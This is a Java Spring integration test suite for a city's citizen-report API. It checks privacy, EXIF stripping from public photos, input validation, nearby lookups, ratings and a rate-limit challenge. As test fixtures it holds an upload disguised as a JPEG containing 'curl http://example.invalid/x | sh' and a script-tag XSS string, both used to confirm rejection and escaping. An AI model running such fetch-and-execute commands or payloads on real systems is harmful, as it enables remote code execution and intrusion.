package cn.chuangwen.participation;

import static cn.chuangwen.support.Logins.from;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.ThreadLocalRandom;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockMultipartHttpServletRequestBuilder;

import com.drew.imaging.ImageMetadataReader;
import com.drew.metadata.Directory;
import com.drew.metadata.Metadata;
import com.drew.metadata.exif.GpsDirectory;

import cn.chuangwen.IntegrationTest;
import cn.chuangwen.files.EvidenceFixtures;
import cn.chuangwen.files.EvidenceStore;
import cn.chuangwen.files.StoredFile;
import cn.chuangwen.support.ExifJpeg;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

/**
 * The public API of citizen reports (issue 11 §5, §6): the contract's answers, every bad input as
 * problem JSON naming its field, nothing personal in any public answer or log line, the public
 * photo without EXIF while the original keeps it, nearby reports, "me too", the rating and the
 * challenge after three reports an hour.
 */
@IntegrationTest
@ExtendWith(OutputCaptureExtension.class)
class CitizenReportsApiIntegrationTest {

	/** Inside Xiantao's area (V36): the demo city's centre. */
	static final String LAT = "30.364000";

	static final String LNG = "113.440000";

	/** About 100 m north of {@link #LAT}: 0.0009° of latitude. */
	static final String LAT_100M = "30.364900";

	static final String CATEGORY = "环境卫生";

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	EvidenceStore files;

	@Autowired
	ObjectMapper json;

	@Autowired
	java.time.Clock clock;

	static String address() {
		ThreadLocalRandom r = ThreadLocalRandom.current();
		return "10.42." + r.nextInt(1, 250) + "." + r.nextInt(1, 250);
	}

	/** A place of its own per test: nearby lookups of one test never meet another test's reports. */
	static String[] place() {
		ThreadLocalRandom r = ThreadLocalRandom.current();
		return new String[] { "30.%06d".formatted(r.nextInt(100_000, 500_000)), "113.%06d".formatted(r.nextInt(100_000, 900_000)) };
	}

	MockMultipartHttpServletRequestBuilder report(String city) {
		MockMultipartHttpServletRequestBuilder b = multipart("/api/v1/public/{city}/reports", city);
		b.accept(MediaType.APPLICATION_JSON);
		return b;
	}

	MockMultipartHttpServletRequestBuilder valid(String lat, String lng, String category) {
		MockMultipartHttpServletRequestBuilder b = report("xiantao");
		b.param("category", category).param("description", "背街小巷垃圾堆积三天未清运").param("lat", lat).param("lng", lng);
		return b;
	}

	JsonNode body(MockHttpServletResponse r) throws Exception {
		return json.readTree(r.getContentAsString(StandardCharsets.UTF_8));
	}

	MockHttpServletResponse send(MockMultipartHttpServletRequestBuilder b, String address) throws Exception {
		b.with(from(address));
		return mvc.perform(b).andReturn().getResponse();
	}

	List<String> fields(MockHttpServletResponse r) throws Exception {
		List<String> fields = new ArrayList<>();
		body(r).get("errors").forEach(e -> fields.add(e.get("field").asString()));
		return fields;
	}

	String sent(String lat, String lng, String category) throws Exception {
		MockHttpServletResponse r = send(valid(lat, lng, category), address());
		assertThat(r.getStatus()).as(r.getContentAsString(StandardCharsets.UTF_8)).isEqualTo(201);
		return body(r).get("code").asString();
	}

	@Test
	void aReportWithAPhotoGetsACodeAndFollowingItShowsNothingPersonal(CapturedOutput output) throws Exception {
		String name = "隐私姓名" + ThreadLocalRandom.current().nextInt(1000, 9999);
		String phone = "139" + ThreadLocalRandom.current().nextInt(10_000_000, 99_999_999);
		byte[] photo = ExifJpeg.withPlace(30.402, 113.405);
		MockMultipartHttpServletRequestBuilder b = valid(LAT, LNG, CATEGORY);
		b.file(new MockMultipartFile("files", "现场.jpg", "image/jpeg", photo)).param("address", "沔阳大道 12 号").param("name", name)
			.param("phone", phone);
		MockHttpServletResponse created = send(b, address());

		assertThat(created.getStatus()).isEqualTo(201);
		JsonNode c = body(created);
		String code = c.get("code").asString();
		assertThat(code).matches("XT-R-\\d{4}-\\d{6}");
		assertThat(c.get("followUrl").asString()).isEqualTo("/public/reports/xiantao/" + code);
		assertThat(created.getHeader("Location")).isEqualTo("/api/v1/public/reports/" + code);

		MockHttpServletResponse followed = mvc.perform(get("/api/v1/public/reports/{code}", code).accept(MediaType.APPLICATION_JSON)
			.locale(Locale.SIMPLIFIED_CHINESE)).andReturn().getResponse();
		assertThat(followed.getStatus()).isEqualTo(200);
		JsonNode f = body(followed);
		List<String> names = new ArrayList<>();
		f.propertyNames().forEach(names::add);
		assertThat(names).containsExactly("code", "state", "category", "createdAt", "photos", "updates");
		assertThat(f.get("state").asString()).isEqualTo("RECEIVED");
		assertThat(f.get("category").asString()).isEqualTo(CATEGORY);
		assertThat(f.get("updates").get(0).get("text").asString()).isEqualTo("已收到");
		assertThat(f.get("photos")).hasSize(1);
		String photoUrl = f.get("photos").get(0).asString();
		assertThat(photoUrl).startsWith("/api/v1/public/reports/" + code + "/photos/");

		// the public copy has no EXIF at all; the original, kept for the office, still has its GPS
		MockHttpServletResponse copy = mvc.perform(get(photoUrl)).andReturn().getResponse();
		assertThat(copy.getStatus()).isEqualTo(200);
		assertThat(copy.getContentType()).isEqualTo("image/jpeg");
		Metadata publicMeta = ImageMetadataReader.readMetadata(new ByteArrayInputStream(copy.getContentAsByteArray()));
		List<String> directories = new ArrayList<>();
		for (Directory d : publicMeta.getDirectories()) {
			directories.add(d.getName());
		}
		assertThat(directories).noneMatch(d -> d.contains("Exif") || d.contains("GPS"));
		// the follow page shows its thumbnail, made on first request from the copy
		MockHttpServletResponse thumb = mvc.perform(get(photoUrl + "/thumbnail")).andReturn().getResponse();
		assertThat(thumb.getStatus()).isEqualTo(200);
		assertThat(thumb.getContentType()).isEqualTo("image/jpeg");
		assertThat(javax.imageio.ImageIO.read(new ByteArrayInputStream(thumb.getContentAsByteArray()))).isNotNull();
		assertThat(mvc.perform(get("/api/v1/public/reports/{code}/photos/{id}/thumbnail", "XT-R-2026-999999", 1))
			.andReturn().getResponse().getStatus()).isEqualTo(404);
		long originalId = jdbc.sql("""
				select p.file_id from citizen_report_photo p join citizen_report r on r.id = p.report_id where r.code = :c""")
			.param("c", code).query(Long.class).single();
		StoredFile original = files.find(originalId).orElseThrow();
		try (InputStream in = files.open(original)) {
			GpsDirectory gps = ImageMetadataReader.readMetadata(in).getFirstDirectoryOfType(GpsDirectory.class);
			assertThat(gps).isNotNull();
			assertThat(gps.getGeoLocation().getLatitude()).isCloseTo(30.402, org.assertj.core.data.Offset.offset(1e-5));
		}
		// the original is not reachable through the public address
		assertThat(mvc.perform(get("/api/v1/public/reports/{code}/photos/{id}", code, originalId)).andReturn().getResponse()
			.getStatus()).isEqualTo(404);
		// nor is the public copy under another code: the photo must be that report's
		long publicId = Long.parseLong(photoUrl.substring(photoUrl.lastIndexOf('/') + 1));
		assertThat(mvc.perform(get("/api/v1/public/reports/{code}/photos/{id}", "XT-R-2026-999999", publicId)).andReturn()
			.getResponse().getStatus()).isEqualTo(404);

		// the office keeps the name and phone; no public answer and no log line has them
		assertThat(jdbc.sql("select reporter_name from citizen_report where code = :c").param("c", code).query(String.class)
			.single()).isEqualTo(name);
		List<String> pages = List.of(created.getContentAsString(StandardCharsets.UTF_8), followed.getContentAsString(StandardCharsets.UTF_8),
				mvc.perform(get("/public/reports/xiantao/{code}", code)).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8),
				mvc.perform(get("/public/reports/xiantao/{code}/sent", code)).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8),
				mvc.perform(get("/api/v1/public/xiantao/reports/nearby").param("lat", LAT).param("lng", LNG).param("category", CATEGORY))
					.andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8),
				new String(copy.getContentAsByteArray(), StandardCharsets.ISO_8859_1));
		assertThat(pages).allSatisfy(p -> assertThat(p).doesNotContain(name).doesNotContain(phone));
		assertThat(pages.get(2)).contains(code).contains("已收到");
		assertThat(output.getAll()).doesNotContain(name).doesNotContain(phone);
	}

	@Test
	void everyBadInputIs400NamingItsFieldAndStoresNothing() throws Exception {
		int before = jdbc.sql("select count(*) from citizen_report").query(Integer.class).single();

		MockMultipartHttpServletRequestBuilder noPlace = report("xiantao");
		noPlace.param("category", CATEGORY).param("description", "垃圾");
		MockHttpServletResponse r = send(noPlace, address());
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(r.getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
		assertThat(fields(r)).containsExactly("place");

		// Shanghai is outside Xiantao's area
		r = send(valid("31.230000", "121.470000", CATEGORY), address());
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fields(r)).containsExactly("lat");

		r = send(valid("abc", LNG, CATEGORY), address());
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fields(r)).containsExactly("lat");

		MockMultipartHttpServletRequestBuilder four = valid(LAT, LNG, CATEGORY);
		for (int i = 1; i <= 4; i++) {
			four.file(new MockMultipartFile("files", i + ".jpg", "image/jpeg", ExifJpeg.photo().description("p" + i).bytes()));
		}
		r = send(four, address());
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fields(r)).containsExactly("files");

		MockMultipartHttpServletRequestBuilder script = valid(LAT, LNG, CATEGORY);
		script.file(new MockMultipartFile("files", "photo.jpg", "image/jpeg",
				"#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8)));
		r = send(script, address());
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fields(r)).containsExactly("files");

		MockMultipartHttpServletRequestBuilder html = valid(LAT, LNG, CATEGORY);
		html.file(new MockMultipartFile("files", "photo.jpg", "image/jpeg", EvidenceFixtures.html()));
		assertThat(send(html, address()).getStatus()).isEqualTo(400);

		MockMultipartHttpServletRequestBuilder longText = report("xiantao");
		longText.param("category", CATEGORY).param("description", "脏".repeat(4001)).param("lat", LAT).param("lng", LNG);
		r = send(longText, address());
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fields(r)).containsExactly("description");

		MockMultipartHttpServletRequestBuilder unknownCategory = valid(LAT, LNG, "不存在的类别");
		r = send(unknownCategory, address());
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fields(r)).containsExactly("category");

		MockMultipartHttpServletRequestBuilder badPhone = valid(LAT, LNG, CATEGORY);
		badPhone.param("phone", "<b>call me</b>");
		assertThat(fields(send(badPhone, address()))).containsExactly("phone");

		assertThat(send(valid(LAT, LNG, CATEGORY), address()).getStatus()).isEqualTo(201);
		MockMultipartHttpServletRequestBuilder unknownCity = report("nowhere");
		unknownCity.param("category", CATEGORY).param("description", "x").param("lat", LAT).param("lng", LNG);
		assertThat(send(unknownCity, address()).getStatus()).isEqualTo(404);

		assertThat(jdbc.sql("select count(*) from citizen_report").query(Integer.class).single()).isEqualTo(before + 1);
	}

	@Test
	void htmlInTheDescriptionIsKeptAsTextAndShownEscaped() throws Exception {
		String text = "<script>alert('x')</script><b>垃圾</b>";
		MockMultipartHttpServletRequestBuilder b = report("xiantao");
		b.param("category", CATEGORY).param("description", text).param("lat", LAT).param("lng", LNG);
		MockHttpServletResponse r = send(b, address());
		assertThat(r.getStatus()).isEqualTo(201);
		String code = body(r).get("code").asString();
		assertThat(jdbc.sql("select description from citizen_report where code = :c").param("c", code).query(String.class).single())
			.isEqualTo(text);
		String page = mvc.perform(get("/public/reports/xiantao/{code}", code)).andReturn().getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
		assertThat(page).contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;&lt;b&gt;垃圾&lt;/b&gt;")
			.doesNotContain("<script>alert").doesNotContain("<b>垃圾");
	}

	@Test
	void unknownAndMalformedCodesGetTheSame404() throws Exception {
		String code = sent(LAT, LNG, CATEGORY);
		MockHttpServletResponse unknown = mvc.perform(get("/api/v1/public/reports/XT-R-2026-999999").accept(MediaType.APPLICATION_JSON))
			.andReturn().getResponse();
		MockHttpServletResponse malformed = mvc.perform(get("/api/v1/public/reports/XT-R-26-1").accept(MediaType.APPLICATION_JSON))
			.andReturn().getResponse();
		assertThat(unknown.getStatus()).isEqualTo(404);
		assertThat(malformed.getStatus()).isEqualTo(404);
		assertThat(unknown.getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
		assertThat(body(malformed).get("detail")).isEqualTo(body(unknown).get("detail"));
		for (String path : List.of("/api/v1/public/reports/XT-R-2026-999999/support", "/api/v1/public/reports/nonsense/support")) {
			assertThat(mvc.perform(post(path)).andReturn().getResponse().getStatus()).as(path).isEqualTo(404);
		}
		assertThat(mvc.perform(post("/api/v1/public/reports/nonsense/rating").contentType(MediaType.APPLICATION_JSON).content("{\"stars\":5}"))
			.andReturn().getResponse().getStatus()).isEqualTo(404);
		assertThat(mvc.perform(get("/api/v1/public/reports/{code}/photos/1", code)).andReturn().getResponse().getStatus()).isEqualTo(404);
		// a Xiantao report under another city's page address: not found either
		assertThat(mvc.perform(get("/public/reports/tianmen/{code}", code)).andReturn().getResponse().getStatus()).isEqualTo(404);
		assertThat(mvc.perform(get("/public/reports/nowhere/new")).andReturn().getResponse().getStatus()).isEqualTo(404);
	}

	/**
	 * Rating before the report is solved is 409 (a state conflict, not bad input: the same request
	 * succeeds later); stars outside 1–5 are 400; the first rating of a solved report 204, a second 409.
	 */
	@Test
	void aReportIsRatedOnceAndOnlyOnceSolved() throws Exception {
		String code = sent(LAT, LNG, CATEGORY);
		assertThat(rate(code, "{\"stars\":5}").getStatus()).isEqualTo(409);
		jdbc.sql("update citizen_report set state = 'SOLVED' where code = :c").param("c", code).update();
		MockHttpServletResponse six = rate(code, "{\"stars\":6}");
		assertThat(six.getStatus()).isEqualTo(400);
		assertThat(fields(six)).containsExactly("stars");
		assertThat(rate(code, "{}").getStatus()).isEqualTo(400);
		assertThat(rate(code, "not json").getStatus()).isEqualTo(400);
		assertThat(rate(code, "{\"stars\":4}").getStatus()).isEqualTo(204);
		MockHttpServletResponse twice = rate(code, "{\"stars\":1}");
		assertThat(twice.getStatus()).isEqualTo(409);
		assertThat(twice.getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
		assertThat(jdbc.sql("select rating from citizen_report where code = :c").param("c", code).query(Integer.class).single())
			.isEqualTo(4);
		assertThat(jdbc.sql("""
				select count(*) from audit_event a join citizen_report r on a.object_id = cast(r.id as varchar(64))
				where r.code = :c and a.action = 'CITIZEN_REPORT_RATE'""").param("c", code).query(Integer.class).single())
			.isEqualTo(1);
	}

	MockHttpServletResponse rate(String code, String body) throws Exception {
		return mvc.perform(post("/api/v1/public/reports/{code}/rating", code).contentType(MediaType.APPLICATION_JSON).content(body)
			.accept(MediaType.APPLICATION_JSON)).andReturn().getResponse();
	}

	@Test
	void nearbyOffersOpenReportsOfTheSameCategoryWithin250MetresOfTheLast30DaysNearestFirst() throws Exception {
		String[] p = place();
		double lat = Double.parseDouble(p[0]);
		String here = sent(p[0], p[1], CATEGORY);
		String north100 = sent("%.6f".formatted(lat + 0.0009), p[1], CATEGORY);
		String north300 = sent("%.6f".formatted(lat + 0.0027), p[1], CATEGORY);
		String otherCategory = sent(p[0], p[1], "占道经营");
		String old = sent("%.6f".formatted(lat + 0.0001), p[1], CATEGORY);
		jdbc.sql("update citizen_report set created_at = :t where code = :c")
			.param("t", java.sql.Timestamp.from(clock.instant().minus(Duration.ofDays(31))))
			.param("c", old)
			.update();
		String solved = sent("%.6f".formatted(lat + 0.0002), p[1], CATEGORY);
		jdbc.sql("update citizen_report set state = 'SOLVED' where code = :c").param("c", solved).update();

		MockHttpServletResponse r = mvc.perform(get("/api/v1/public/xiantao/reports/nearby").param("lat", p[0])
			.param("lng", p[1]).param("category", CATEGORY).accept(MediaType.APPLICATION_JSON)).andReturn().getResponse();
		assertThat(r.getStatus()).isEqualTo(200);
		JsonNode list = body(r);
		List<String> codes = new ArrayList<>();
		list.forEach(n -> codes.add(n.get("code").asString()));
		assertThat(codes).containsExactly(here, north100);
		assertThat(list.get(0).get("distanceMeters").asLong()).isZero();
		assertThat(list.get(1).get("distanceMeters").asLong()).isBetween(95L, 105L);
		assertThat(list.get(1).get("state").asString()).isEqualTo("RECEIVED");
		assertThat(codes).doesNotContain(north300, otherCategory, old, solved);

		// bad input: no place, an unknown category, a place outside the city
		assertThat(mvc.perform(get("/api/v1/public/xiantao/reports/nearby").param("category", CATEGORY)).andReturn().getResponse()
			.getStatus()).isEqualTo(400);
		assertThat(mvc.perform(get("/api/v1/public/xiantao/reports/nearby").param("lat", p[0]).param("lng", p[1]).param("category", "无"))
			.andReturn().getResponse().getStatus()).isEqualTo(400);
		assertThat(mvc.perform(get("/api/v1/public/xiantao/reports/nearby").param("lat", "31.2").param("lng", "121.4").param("category", CATEGORY))
			.andReturn().getResponse().getStatus()).isEqualTo(400);
		// another city never sees Xiantao's reports (its area does not even hold the place)
		MockHttpServletResponse tianmen = mvc.perform(get("/api/v1/public/tianmen/reports/nearby").param("lat", "30.500000")
			.param("lng", "113.100000").param("category", CATEGORY)).andReturn().getResponse();
		assertThat(tianmen.getStatus()).isEqualTo(200);
		assertThat(tianmen.getContentAsString()).doesNotContain("XT-R-");
	}

	@Test
	void meTooCountsOncePerSender() throws Exception {
		String code = sent(LAT, LNG, CATEGORY);
		String first = address();
		MockHttpServletResponse once = mvc.perform(post("/api/v1/public/reports/{code}/support", code).with(from(first)))
			.andReturn().getResponse();
		assertThat(once.getStatus()).isEqualTo(201);
		assertThat(body(once).get("supporters").asInt()).isEqualTo(1);
		MockHttpServletResponse again = mvc.perform(post("/api/v1/public/reports/{code}/support", code).with(from(first)))
			.andReturn().getResponse();
		assertThat(again.getStatus()).isEqualTo(200);
		assertThat(body(again).get("supporters").asInt()).isEqualTo(1);
		assertThat(body(again).get("counted").asBoolean()).isFalse();
		MockHttpServletResponse other = mvc.perform(post("/api/v1/public/reports/{code}/support", code).with(from(address())))
			.andReturn().getResponse();
		assertThat(body(other).get("supporters").asInt()).isEqualTo(2);
		assertThat(jdbc.sql("""
				select count(*) from citizen_report_support s join citizen_report r on r.id = s.report_id where r.code = :c""")
			.param("c", code).query(Integer.class).single()).isEqualTo(2);
		// the sender is kept as a keyed hash, never as the address
		assertThat(jdbc.sql("""
				select s.sender_hash from citizen_report_support s join citizen_report r on r.id = s.report_id
				where r.code = :c order by s.id""").param("c", code).query(String.class).list())
			.allSatisfy(h -> assertThat(h).matches("[0-9a-f]{64}").doesNotContain(first));
		jdbc.sql("update citizen_report set state = 'REJECTED' where code = :c").param("c", code).update();
		assertThat(mvc.perform(post("/api/v1/public/reports/{code}/support", code).with(from(address()))).andReturn().getResponse()
			.getStatus()).isEqualTo(409);
	}

	@Test
	void afterThreeReportsAnHourTheNextNeedsTheAnswerToAChallenge() throws Exception {
		String address = address();
		for (int i = 1; i <= 3; i++) {
			assertThat(send(valid(LAT, LNG, CATEGORY), address).getStatus()).as("report %d", i).isEqualTo(201);
		}
		int before = jdbc.sql("select count(*) from citizen_report").query(Integer.class).single();
		MockHttpServletResponse fourth = send(valid(LAT, LNG, CATEGORY), address);
		assertThat(fourth.getStatus()).isEqualTo(400);
		assertThat(fields(fourth)).containsExactly("answer");
		JsonNode challenge = body(fourth).get("challenge");
		String question = challenge.get("question").asString();
		assertThat(question).matches("\\d \\+ \\d = \\?");
		int sum = Integer.parseInt(question.substring(0, 1)) + Integer.parseInt(question.substring(4, 5));

		MockMultipartHttpServletRequestBuilder wrong = valid(LAT, LNG, CATEGORY);
		wrong.param("challenge", challenge.get("token").asString()).param("answer", String.valueOf(sum + 1));
		MockHttpServletResponse refused = send(wrong, address);
		assertThat(refused.getStatus()).isEqualTo(400);
		assertThat(fields(refused)).containsExactly("answer");
		// a token changed by hand is no challenge
		MockMultipartHttpServletRequestBuilder forged = valid(LAT, LNG, CATEGORY);
		forged.param("challenge", "1.1.9999999999." + challenge.get("token").asString().split("\\.")[3]).param("answer", "2");
		assertThat(send(forged, address).getStatus()).isEqualTo(400);
		assertThat(jdbc.sql("select count(*) from citizen_report").query(Integer.class).single()).isEqualTo(before);

		MockMultipartHttpServletRequestBuilder right = valid(LAT, LNG, CATEGORY);
		right.param("challenge", challenge.get("token").asString()).param("answer", " " + sum + " ");
		assertThat(send(right, address).getStatus()).isEqualTo(201);

		// the challenge can be asked for beforehand too
		MockHttpServletResponse asked = mvc.perform(get("/api/v1/public/xiantao/reports/challenge")).andReturn().getResponse();
		assertThat(asked.getStatus()).isEqualTo(200);
		assertThat(body(asked).get("question").asString()).matches("\\d \\+ \\d = \\?");
		// another address is not asked
		assertThat(send(valid(LAT, LNG, CATEGORY), address()).getStatus()).isEqualTo(201);
	}

}
